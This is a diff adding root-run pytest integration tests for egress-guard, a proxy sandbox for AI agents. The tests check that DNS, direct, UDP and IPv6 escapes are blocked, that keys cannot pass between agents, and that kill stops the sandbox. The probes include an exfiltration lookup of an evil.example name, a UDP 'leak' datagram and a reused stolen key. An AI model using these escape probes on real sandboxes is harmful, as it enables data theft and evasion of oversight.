@@ -1,0 +1,478 @@
+"""The proxy side of `run --isolate`, for real: `egress-guard up` in a subprocess (a process
+that held a TUN may crash at exit), real TLS upstreams on loopback, and sandboxes made here
+the way `run --isolate` makes them — the TUN `up` hands out over its control socket moved
+into a network namespace of the test's own (`ip netns`), the default route into it, IPv6
+off, the sandbox's resolv.conf — with curl, Python and the openai SDK inside, as an
+unprivileged user. What `up` must guarantee: nothing but egress-guard is reachable, DNS is
+answered by it, identity comes from the TUN, and `kill` kills the sandbox's processes."""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import os
+import secrets
+import shutil
+import socket
+import sqlite3
+import subprocess
+import sys
+import tempfile
+import time
+from collections.abc import Iterator
+from dataclasses import dataclass
+from http.server import BaseHTTPRequestHandler
+from pathlib import Path
+from typing import Any
+
+import pytest
+import trustme
+
+from egress_guard import keys
+from egress_guard.config import Config
+
+pytestmark = pytest.mark.skipif(
+    not sys.platform.startswith("linux")
+    or os.geteuid() != 0
+    or not os.path.exists("/dev/net/tun")
+    or not shutil.which("ip")
+    or not shutil.which("setpriv"),
+    reason="needs Linux, root, /dev/net/tun, iproute2 and setpriv",
+)
+
+EG = [sys.executable, "-m", "egress_guard"]
+PY = "/usr/bin/python3"  # readable by the sandbox's unprivileged user (stdlib probes)
+SDK_PY = sys.executable  # the venv's Python with the openai SDK; under /root: run as root inside
+NOBODY = "65534"
+PROXY = "http://198.18.255.254:3128"
+AGENTS = ("researcher", "writer", "runner")
+
+
+def host_address() -> str:
+    """An address of this host other than loopback."""
+    out = subprocess.run(["ip", "-4", "-o", "addr", "show", "scope", "global"], capture_output=True, text=True)
+    for line in out.stdout.splitlines():
+        return line.split()[3].split("/")[0]
+    return "192.0.2.1"
+
+
+def free_port() -> int:
+    with socket.socket() as s:
+        s.bind(("127.0.0.1", 0))
+        return int(s.getsockname()[1])
+
+
+@dataclass
+class World:
+    config: Config
+    up: subprocess.Popen[bytes]
+    public: Path  # a directory the sandbox's user can read: the CA
+    llm_port: int
+    web_port: int
+    web: Any  # the generic upstream (its state: requests seen)
+    bench_port: int  # other.test.local: answers in one write (no Nagle stall of its own)
+    listen: int  # up's regular listener
+
+    @property
+    def ca(self) -> str:
+        return str(self.public / "ca.pem")
+
+    def rows(self, where: str = "1", args: tuple[Any, ...] = (), expect: int = 1, timeout: float = 5) -> list[dict]:
+        deadline = time.monotonic() + timeout
+        while True:
+            conn = sqlite3.connect(self.config.audit_path)
+            conn.row_factory = sqlite3.Row
+            rows = [dict(r) for r in conn.execute(f"SELECT * FROM audit WHERE {where} ORDER BY id", args)]
+            conn.close()
+            if len(rows) >= expect or time.monotonic() > deadline:
+                return rows
+
+    def key(self, agent: str, session: str) -> str:
+        return keys.mint(self.config, agent, session=session).env["OPENAI_API_KEY"]
+
+
+@pytest.fixture(scope="module")
+def world(tmp_path_factory: pytest.TempPathFactory, test_ca: tuple[trustme.CA, Path]) -> Iterator[World]:
+    import yaml
+    from support.llm import LLMHandler
+    from support.llm.common import REAL_ENV
+    from support.llm.openai import SlowStream
+    from support.proxy import write_config
+    from support.upstream import Upstream
+
+    SlowStream.stop.clear()
+    llm, web, bench = Upstream(test_ca[0], LLMHandler), Upstream(test_ca[0]), Upstream(test_ca[0], OneWrite)
+    home = tmp_path_factory.mktemp("isolate")
+    config = write_config(
+        home,
+        {
+            "allowlists": ["openai"],
+            "allow": [
+                {"host": "api.openai.com", "ports": [llm.port]},
+                {"host": "api.test.local", "ports": [web.port]},
+                {"host": "other.test.local", "ports": [bench.port]},
+            ],
+            "services": ["openai"],
+            "agents": {name: {"services": ["openai"]} for name in AGENTS},
+            "network": {
+                "hosts": {name: ["127.0.0.1"] for name in ("api.openai.com", "api.test.local", "other.test.local")},
+                "upstream_ca": str(test_ca[1]),
+            },
+        },
+    )
+    assert yaml  # the config helper writes YAML
+    public = Path(tempfile.mkdtemp(prefix="eg-isolate-"))
+    public.chmod(0o755)
+    shutil.copy(config.ca_dir / "egress-guard-ca.pem", public / "ca.pem")
+    (public / "ca.pem").chmod(0o644)
+    env = {**os.environ, **REAL_ENV}
+    log = open(home / "up.log", "wb")  # noqa: SIM115 - closed below
+    listen = free_port()
+    up = subprocess.Popen(
+        [*EG, "up", "--config", str(config.path), "--listen", f"127.0.0.1:{listen}"],
+        stdout=log,
+        stderr=subprocess.STDOUT,
+        env=env,
+    )
+    sock = config.ca_dir / "control.sock"
+    deadline = time.monotonic() + 30
+    while not sock.exists() and up.poll() is None and time.monotonic() < deadline:
+        time.sleep(0.05)
+    try:
+        assert sock.exists(), (home / "up.log").read_text()
+        assert sock.stat().st_mode & 0o777 == 0o600
+        yield World(config, up, public, llm.port, web.port, web, bench.port, listen)
+    finally:
+        up.terminate()
+        try:
+            code = up.wait(20)
+        except subprocess.TimeoutExpired:
+            up.kill()
+            code = up.wait()
+        log.close()
+        SlowStream.stop.set()
+        web.state.sse_gate.set()
+        llm.close()
+        web.close()
+        bench.close()
+        shutil.rmtree(public, ignore_errors=True)
+        output = (home / "up.log").read_text()
+        assert code == 0, output  # a clean stop, no exit-time crash (os._exit after a TUN)
+        assert "0 lost" in output
+
+
+class OneWrite(BaseHTTPRequestHandler):
+    """Answers every GET in one write: a response in two writes stalls on Nagle and delayed
+    ACKs (~40 ms) whatever the proxy does, which would hide what capture costs."""
+
+    protocol_version = "HTTP/1.1"
+
+    def log_message(self, *args: Any) -> None:
+        pass
+
+    def do_GET(self) -> None:
+        body = b'{"ok": true}'
+        head = f"HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
+        self.wfile.write(head.encode() + body)
+
+
+class Box:
+    """A sandbox as `run --isolate` makes it, with `ip netns` instead of its launcher."""
+
+    def __init__(self, world: World, agent: str | None, session: str) -> None:
+        self.world = world
+        self.session = session
+        t0 = time.monotonic()
+        self.control = socket.socket(socket.AF_UNIX)
+        self.control.connect(str(world.config.ca_dir / "control.sock"))
+        self.lines = self.control.makefile("rb")
+        self.reply = self.ask({"op": "open", "agent": agent, "session": session})
+        assert self.reply["ok"], self.reply
+        self.ns = f"egt-{self.reply['sandbox']}"
+        self.etc = Path("/etc/netns") / self.ns
+        tun, addr = self.reply["tun"], self.reply["addr"]
+        subprocess.run(["ip", "netns", "add", self.ns], check=True)
+        try:
+            self.etc.mkdir(parents=True)
+            (self.etc / "resolv.conf").write_text(f"nameserver {self.reply['dns']}\noptions attempts:1 timeout:2\n")
+            subprocess.run(["ip", "link", "set", tun, "netns", self.ns], check=True)
+            setup = (
+                "echo 1 > /proc/sys/net/ipv6/conf/all/disable_ipv6 && "
+                "echo 1 > /proc/sys/net/ipv6/conf/default/disable_ipv6 && "
+                f"ip link set lo up && ip link set {tun} up && ip addr add {addr}/32 dev {tun} && "
+                f"ip route add default dev {tun} src {addr} quickack 1"
+            )
+            subprocess.run(["ip", "netns", "exec", self.ns, "sh", "-c", setup], check=True)
+        except BaseException:
+            self.close()
+            raise
+        self.start_ms = (time.monotonic() - t0) * 1000
+
+    def ask(self, msg: dict[str, Any]) -> dict[str, Any]:
+        self.control.sendall(json.dumps(msg).encode() + b"\n")
+        return dict(json.loads(self.lines.readline()))
+
+    def argv(self, cmd: list[str], pidns: bool = False, root: bool = False) -> list[str]:
+        drop = ["setpriv", f"--reuid={NOBODY}", f"--regid={NOBODY}", "--clear-groups", "--no-new-privs", "--"]
+        if root:
+            drop = []
+        pid = ["unshare", "--pid", "--fork", "--kill-child", "--mount-proc"] if pidns else []
+        return ["ip", "netns", "exec", self.ns, *pid, *drop, *cmd]
+
+    def env(self, proxy: bool = False, **extra: str) -> dict[str, str]:
+        env = {"PATH": "/usr/bin:/bin", "HOME": "/tmp", "LANG": "C.UTF-8", "SSL_CERT_FILE": self.world.ca, **extra}
+        if proxy:
+            env.update(HTTPS_PROXY=PROXY, HTTP_PROXY=PROXY, https_proxy=PROXY, http_proxy=PROXY)
+        return env
+
+    def run(
+        self, cmd: list[str], timeout: float = 30, root: bool = False, **env: Any
+    ) -> subprocess.CompletedProcess[str]:
+        argv = self.argv(cmd, root=root)
+        return subprocess.run(argv, capture_output=True, text=True, timeout=timeout, env=self.env(**env))
+
+    def python(self, script: str, python: str = PY, **env: Any) -> dict[str, Any]:
+        out = self.run([python, "-c", script], root=python != PY, **env)
+        assert out.returncode == 0, out.stderr
+        return dict(json.loads(out.stdout.strip().splitlines()[-1]))
+
+    def close(self) -> None:
+        with contextlib.suppress(OSError):
+            self.control.close()
+        subprocess.run(["ip", "netns", "del", self.ns], capture_output=True)
+        shutil.rmtree(self.etc, ignore_errors=True)
+
+
+@pytest.fixture
+def box(world: World) -> Iterator[Box]:
+    b = Box(world, "researcher", f"s-{secrets.token_hex(4)}")
+    yield b
+    b.close()
+
+
+def url(world: World, path: str = "/json", host: str = "api.test.local") -> str:
+    return f"https://{host}:{world.web_port if host == 'api.test.local' else world.llm_port}{path}"
+
+
+PROBE = """
+import json, socket, errno
+out = {}
+def attempt(name, fn):
+    try:
+        out[name] = fn()
+    except OSError as e:
+        out[name] = 'error: ' + (errno.errorcode.get(e.errno, '') if e.errno else type(e).__name__)
+def tcp(addr, send=b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'):
+    s = socket.create_connection(addr, timeout=3)
+    s.sendall(send)
+    data = s.recv(100)
+    return 'answered' if data else 'closed'
+def udp(addr):
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    s.settimeout(1)
+    s.sendto(b'leak', addr)
+    return 'sent'
+def resolve(name):
+    return sorted({a[4][0] for a in socket.getaddrinfo(name, 443, type=socket.SOCK_STREAM)})
+"""
+
+
+def test_only_egress_guard_is_reachable_and_dns_is_its_own(world: World, box: Box) -> None:
+    target = host_address()
+    catcher = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+    catcher.bind(("0.0.0.0", 0))
+    catcher.settimeout(0.5)
+    uport = catcher.getsockname()[1]
+    exfil = f"exfil.{secrets.token_hex(6)}.evil.example"
+    got = box.python(
+        PROBE
+        + f"""
+attempt('loopback', lambda: tcp(('127.0.0.1', {world.web_port})))
+attempt('host', lambda: tcp(('{target}', {world.web_port})))
+attempt('hardcoded', lambda: tcp(('1.1.1.1', 443)))
+attempt('udp', lambda: udp(('{target}', {uport})))
+attempt('v6_loopback', lambda: tcp(('::1', {world.web_port})))
+attempt('v6', lambda: tcp(('2001:db8::1', 443)))
+attempt('allowed', lambda: resolve('api.test.local'))
+attempt('exfil', lambda: resolve('{exfil}'))
+print(json.dumps(out))
+"""
+    )
+    with pytest.raises(TimeoutError):
+        catcher.recvfrom(100)  # no datagram left the sandbox
+    catcher.close()
+    assert got["loopback"] == "error: ECONNREFUSED"  # its own loopback, nothing listens
+    assert got["host"] in ("closed", "error: ECONNRESET"), got  # captured and refused
+    assert got["hardcoded"] in ("closed", "error: ECONNRESET")
+    assert got["v6_loopback"].startswith("error:") and got["v6"].startswith("error:")
+    assert len(got["allowed"]) == 1 and got["allowed"][0].startswith("198.18.")
+    assert got["exfil"].startswith("error:")  # NXDOMAIN: socket.gaierror
+    dns = world.rows("host = ? AND scheme = 'dns'", (exfil,))
+    assert dns and dns[0]["agent"] == "researcher" and dns[0]["decision"] == "deny", dns
+    assert "NXDOMAIN" in dns[0]["reason"] and dns[0]["session"] == box.session
+    for ip, port in ((target, world.web_port), ("1.1.1.1", 443)):
+        rows = world.rows("host = ? AND port = ? AND kind = 'connect' AND agent = 'researcher'", (ip, port))
+        assert rows and "not an address egress-guard's DNS handed out" in rows[-1]["reason"], ip
+    udp = world.rows("host = ? AND port = ?", (target, uport))
+    assert udp and udp[-1]["agent"] == "researcher" and "UDP" in udp[-1]["reason"]
+
+
+def test_captured_and_explicit_https_reach_allowed_hosts_and_name_the_agent(world: World, box: Box) -> None:
+    for proxy in (False, True):
+        marker = f"m{secrets.token_hex(4)}"
+        out = box.run(
+            ["curl", "-sS", "--noproxy" if not proxy else "--proxy", "*" if not proxy else PROXY,
+             "--cacert", world.ca, url(world, f"/json?{marker}")],
+            proxy=proxy,
+        )  # fmt: skip
+        assert out.returncode == 0, out.stderr
+        assert json.loads(out.stdout)["host"] == f"api.test.local:{world.web_port}"
+        rows = world.rows(
+            "host = 'api.test.local' AND kind = 'request' AND decision = 'allow' AND agent = ?",
+            ("researcher",),
+            expect=1,
+        )
+        assert rows, f"no allowed row naming the agent (proxy={proxy})"
+    # the name must agree with where the captured connection goes: another name's SNI is refused
+    other = box.run(
+        ["curl", "-sS", "--noproxy", "*", "--cacert", world.ca, "--connect-to", f"other.test.local:{world.web_port}:api.test.local:{world.web_port}",
+         f"https://other.test.local:{world.web_port}/json"]
+    )  # fmt: skip
+    assert '"egress_denied"' in other.stdout or other.returncode != 0
+
+
+def test_another_agents_key_in_a_sandbox_is_refused_and_flagged(world: World, box: Box) -> None:
+    stolen = world.key("writer", "s-writer")
+    for proxy in (False, True):
+        out = box.run(
+            ["curl", "-sS", "-o", "/dev/null", "-w", "%{http_code}", "--cacert", world.ca,
+             "-H", f"Authorization: Bearer {stolen}", "-H", "Content-Type: application/json",
+             "-d", '{"model":"gpt-4o-mini","messages":[{"role":"user","content":"hi"}]}',
+             url(world, "/v1/chat/completions", host="api.openai.com")],
+            proxy=proxy,
+        )  # fmt: skip
+        assert out.stdout == "403", out.stderr
+    rows = world.rows("credential = 'denied-agent-not-permitted'", expect=2)
+    assert len(rows) >= 2 and all(r["agent"] == "researcher" for r in rows), rows
+    assert all("flagged" in r["reason"] and "'writer'" in r["reason"] for r in rows)
+
+
+SDK = """
+import json, os, ssl, httpx, openai
+client = openai.OpenAI(api_key=os.environ['OPENAI_API_KEY'], base_url='https://api.openai.com:{port}/v1', max_retries=0,
+                       http_client=httpx.Client(verify=ssl.create_default_context(cafile=os.environ['SSL_CERT_FILE'])))
+r = client.chat.completions.create(model='gpt-4o-mini', messages=[{{'role': 'user', 'content': 'hi'}}])
+print(json.dumps({{'id': r.id, 'content': r.choices[0].message.content}}))
+"""
+
+
+def test_the_openai_sdk_works_with_and_without_proxy_variables_and_is_priced(world: World, box: Box) -> None:
+    session = box.session
+    key = world.key("researcher", session)
+    for proxy in (True, False):
+        got = box.python(SDK.format(port=world.llm_port), python=SDK_PY, proxy=proxy, OPENAI_API_KEY=key)
+        assert got["content"]
+    rows = world.rows("host = 'api.openai.com' AND cost_usd IS NOT NULL AND session = ?", (session,), expect=2)
+    assert len(rows) == 2 and {r["agent"] for r in rows} == {"researcher"}
+    assert all(r["credential"] == "swapped" for r in rows)
+
+
+def test_kill_the_agent_kills_its_sandbox_within_a_second(world: World) -> None:
+    b = Box(world, "runner", f"s-{secrets.token_hex(4)}")
+    try:
+        seen = len(world.web.state.requests)
+        proc = subprocess.Popen(
+            b.argv(["sh", "-c", f"curl -sN --noproxy '*' --cacert {world.ca} {url(world, '/sse?n=50')}; sleep 60"], pidns=True),
+            env=b.env(),
+            stdout=subprocess.DEVNULL,
+            stderr=subprocess.DEVNULL,
+        )  # fmt: skip
+        deadline = time.monotonic() + 10
+        while len(world.web.state.requests) == seen and time.monotonic() < deadline:
+            time.sleep(0.02)
+        assert len(world.web.state.requests) > seen, "the stream never started"
+        init = pid1(proc.pid)
+        pidns = os.stat(f"/proc/{init}/ns/pid").st_ino
+        assert b.ask({"op": "started", "pid": init, "pidns": pidns}) == {"ok": True}
+        t0 = time.monotonic()
+        subprocess.run(
+            [*EG, "kill", "--config", str(world.config.path), "--agent", "runner"], check=True, capture_output=True
+        )
+        t_cli = time.monotonic()
+        while os.path.exists(f"/proc/{init}") and time.monotonic() - t0 < 5:
+            time.sleep(0.005)
+        gone = time.monotonic()
+        assert not os.path.exists(f"/proc/{init}")
+        print(
+            f"kill latency: {(gone - t0) * 1000:.0f} ms from `kill` start ({(gone - t_cli) * 1000:.0f} ms after it returned)"
+        )
+        assert gone - t_cli < 1.0
+        rows = world.rows("agent = 'runner' AND reason LIKE 'kill: sandbox%'")
+        assert rows and "SIGKILLed" in rows[0]["reason"], rows
+        proc.wait(5)
+    finally:
+        b.close()
+
+
+def pid1(unshare_pid: int) -> int:
+    """The host PID of the sandbox's PID 1: the child `unshare --fork` started."""
+    deadline = time.monotonic() + 5
+    path = f"/proc/{unshare_pid}/task/{unshare_pid}/children"
+    while time.monotonic() < deadline:
+        # ip netns exec execs unshare, which forks PID 1
+        with contextlib.suppress(OSError):
+            kids = Path(path).read_text().split()
+            if kids:
+                return int(kids[0])
+        time.sleep(0.01)
+    raise AssertionError("no PID 1")
+
+
+def test_an_unknown_agent_gets_no_sandbox(world: World) -> None:
+    s = socket.socket(socket.AF_UNIX)
+    s.connect(str(world.config.ca_dir / "control.sock"))
+    s.sendall(b'{"op": "open", "agent": "nobody-here", "session": "x"}\n')
+    answer = json.loads(s.makefile("rb").readline())
+    s.close()
+    assert answer["ok"] is False and "unknown agent" in answer["error"]
+
+
+BENCH = """
+import http.client, json, ssl, time
+ctx = ssl.create_default_context(cafile={ca!r})
+def run(conn, n=120):
+    times = []
+    for i in range(n):
+        t = time.perf_counter()
+        conn.request('GET', '/bench', headers={{'Host': 'other.test.local:{port}'}})
+        r = conn.getresponse()
+        r.read()
+        assert r.status == 200, r.status
+        times.append((time.perf_counter() - t) * 1000)
+    times = sorted(times[10:])
+    return [round(times[len(times) // 2], 2), round(times[int(len(times) * 0.9)], 2)]
+out = {{}}
+if {proxy!r}:
+    regular = http.client.HTTPSConnection('127.0.0.1', {proxy!r}, context=ctx)
+    regular.set_tunnel('other.test.local', {port})
+    out['regular'] = run(regular)
+else:
+    captured = http.client.HTTPSConnection('other.test.local', {port}, context=ctx)
+    explicit = http.client.HTTPSConnection('198.18.255.254', 3128, context=ctx)
+    explicit.set_tunnel('other.test.local', {port})
+    out.update(captured=run(captured), explicit=run(explicit))
+print(json.dumps(out))
+"""
+
+
+def test_captured_requests_cost_about_what_explicit_ones_do(world: World, box: Box) -> None:
+    got = box.python(BENCH.format(ca=world.ca, port=world.bench_port, proxy=None))
+    (cap50, cap90), (exp50, exp90) = got["captured"], got["explicit"]
+    script = BENCH.format(ca=world.ca, port=world.bench_port, proxy=world.listen)
+    out = subprocess.run([PY, "-c", script], capture_output=True, text=True, timeout=60)
+    (reg50, reg90) = json.loads(out.stdout)["regular"]
+    print(
+        f"kept-alive HTTPS requests, ms p50/p90: in a sandbox captured {cap50}/{cap90}, explicit proxy "
+        f"{exp50}/{exp90}; on the host via the regular listener {reg50}/{reg90}; sandbox ready in {box.start_ms:.0f} ms"
+    )
+    assert cap50 < 20 and exp50 < 20  # no delayed-ACK stalls (the route's quickack 1)
